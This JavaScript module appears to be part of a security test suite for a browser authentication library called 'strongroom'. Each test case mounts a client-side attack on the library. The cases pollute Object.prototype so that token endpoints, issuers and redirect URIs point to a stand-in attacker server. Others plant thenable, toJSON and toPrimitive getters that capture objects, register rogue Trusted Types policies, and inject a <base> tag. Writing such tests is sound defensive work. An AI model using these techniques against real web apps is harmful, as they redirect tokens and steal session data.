// Options, and what JavaScript does with objects that are handed over.
import { element, wait } from '../kit.mjs';
import { inClosure, whenever } from '../reasons.mjs';
import { fetchTo } from '../wire.mjs';

/** Properties for Object.prototype, as a polluted one would have them. */
const polluted = ({ attacker, api }) => ({
  apis: [{ url: attacker, resource: api, scope: 'read:orders' }],
  url: attacker,
  audience: attacker,
  issuer: attacker,
  redirectUri: attacker,
  metadata: { token_endpoint: attacker },
  assetsUrl: attacker,
  vault: 'closure',
  placement: 'closure',
  fallback: true,
  navigate: () => {},
  params: { redirect_uri: attacker },
  popup: true,
  local: false,
  responseMode: 'query',
  onLoad: true,
  timeoutMs: 1,
  dangerouslyAcceptHmacIdTokens: true,
});

function pollute(properties, hooks) {
  for (const [name, value] of Object.entries(properties)) {
    hooks.replace(Object.prototype, name, { value, writable: true, enumerable: false });
  }
}

export const options = [
  {
    id: 'options-pollution',
    title: 'pollutes Object.prototype with options: APIs, metadata, placement, scripts of its own',
    when: 'both',
    async run({ hooks, config, victim, session, tap, record }) {
      pollute(polluted(config), hooks);
      tap(window, 'fetch');
      await victim();
      const app = await session();
      await app.fetch(config.attacker).catch(record);
      await app.fetch(`${config.attacker}orders`, {}).catch(record);
    },
    disturbs: true,
    lost: whenever(inClosure('hooks')),
  },
  {
    id: 'options-pollution-wire',
    title: 'pollutes Object.prototype with members of messages, requests and responses',
    when: 'both',
    async run({ hooks, config, victim }) {
      const properties = {
        answer: { url: config.attacker },
        reply: 'done',
        error: undefined,
        response: {},
        headers: [['x-test', 'x']],
        body: 'x',
        credentials: 'include',
        mode: 'cors',
        integrity: '',
        wasm: config.attacker,
        life: 'x',
        transfer: [],
        value: undefined,
      };
      pollute(properties, hooks);
      await Promise.race([victim('fetch', 'checkSession'), wait(3000)]);
    },
    disturbs: true,
  },
  {
    id: 'options-pollution-metadata',
    title: 'pollutes Object.prototype with metadata that names its own server as token endpoint, as the wire has it',
    when: 'both',
    async run({ hooks, config, victim, thief }) {
      const metadata = { ...(await thief.metadata()), token_endpoint: `${config.attacker}token` };
      pollute({ metadata: JSON.stringify(metadata) }, hooks);
      await victim();
    },
  },
  {
    id: 'options-mutation',
    title: 'changes the app’s own options after the session was created',
    when: 'after',
    async run({ options, config, session, record, victim }) {
      options.apis.push({ url: config.attacker, resource: config.api, scope: 'read:orders' });
      options.apis[0].url = config.attacker;
      options.issuer = config.attacker;
      options.silent.redirectUri = config.attacker;
      options.metadata = { token_endpoint: config.attacker };
      const app = await session();
      record(await app.fetch(config.attacker).catch((error) => error));
      await victim();
    },
  },
  {
    id: 'options-getters',
    title: 'hands getters, proxies and changing values to the session’s methods',
    when: 'after',
    async run({ session, config, record }) {
      const app = await session();
      const spy = (name) =>
        new Proxy(
          {},
          {
            get(_, key, receiver) {
              record([name, String(key), receiver]);
              return undefined;
            },
            ownKeys: () => ['scope', 'params', 'timeoutMs'],
            getOwnPropertyDescriptor: () => ({ enumerable: true, configurable: true, value: undefined }),
          },
        );
      let asked = 0;
      const changing = {
        get scope() {
          return asked++ ? config.attacker : 'openid';
        },
        get params() {
          return {
            get resource() {
              return config.attacker;
            },
          };
        },
      };
      for (const given of [spy('options'), changing]) {
        for (const call of [app.checkSession, app.userinfo, (init) => app.fetch(`${config.api}orders`, init)]) {
          record(
            await Promise.resolve(given)
              .then(call)
              .catch((error) => error),
          );
        }
      }
    },
  },
  {
    id: 'options-thenable',
    title: 'makes every object a thenable, and takes what is awaited',
    when: 'both',
    async run({ hooks, record, victim, config }) {
      const taken = [];
      hooks.replace(Object.prototype, 'then', {
        get() {
          record(this);
          if (typeof this?.command === 'function' && !taken.includes(this)) taken.push(this);
          return undefined;
        },
        set(value) {
          Object.defineProperty(this, 'then', { value, writable: true, configurable: true });
        },
      });
      await victim('fetch', 'post', 'checkSession');
      // The page's end of the wire to the vault.
      for (const connection of taken) {
        for (const command of [fetchTo(config.attacker), { checkSession: { params: [] } }, { dump: {} }]) {
          record(await Promise.race([connection.command(command).catch((error) => error), wait(1500)]));
        }
      }
    },
  },
  {
    id: 'options-to-json',
    title: 'gives every object a toJSON that takes what is serialised',
    when: 'both',
    async run({ hooks, record, victim }) {
      hooks.replace(Object.prototype, 'toJSON', {
        get() {
          record(this);
          return undefined;
        },
        set() {},
      });
      await victim();
    },
  },
  {
    id: 'options-to-primitive',
    title: 'gives every object Symbol.toPrimitive and Symbol.toStringTag that take what is converted',
    when: 'both',
    async run({ hooks, record, victim }) {
      for (const symbol of [Symbol.toPrimitive, Symbol.toStringTag, Symbol.isConcatSpreadable]) {
        hooks.replace(Object.prototype, symbol, {
          get() {
            record(this);
            return undefined;
          },
        });
      }
      await victim();
    },
  },
  {
    id: 'options-assets',
    title: 'creates a session of its own whose assetsUrl is its own server, and listens there',
    when: 'after',
    async run({ options, config, undo, record, victim }) {
      const { createSession } = await import('/strongroom/index.js');
      for (const vault of ['shared', 'worker', 'closure']) {
        try {
          const own = createSession({ ...options, assetsUrl: config.attacker, vault });
          undo(() => own.close());
          record(await Promise.race([own.ready, wait(1000)]));
        } catch (error) {
          record(error);
        }
      }
      await victim();
    },
  },
  {
    id: 'options-trusted-types',
    title: 'makes a default Trusted Types policy that changes the worker’s URL, and a policy of the package’s name',
    when: 'both',
    async run({ record, victim }) {
      for (const name of ['default', 'strongroom']) {
        try {
          trustedTypes.createPolicy(name, {
            createScriptURL: (url) => {
              record(url);
              return url;
            },
          });
        } catch (error) {
          record(error);
        }
      }
      await victim();
    },
  },
  {
    id: 'options-base',
    title: 'adds a <base> of its own, and has the app fetch relative URLs and sign in',
    when: 'after',
    async run({ session, config, record, undo }) {
      element('base', { href: config.attacker }, undo);
      const app = await session();
      for (const url of ['orders', '/orders', '', '?x']) record(await app.fetch(url).catch((error) => error));
      await app.signIn({ returnTo: 'orders' }).catch(record);
    },
  },
];
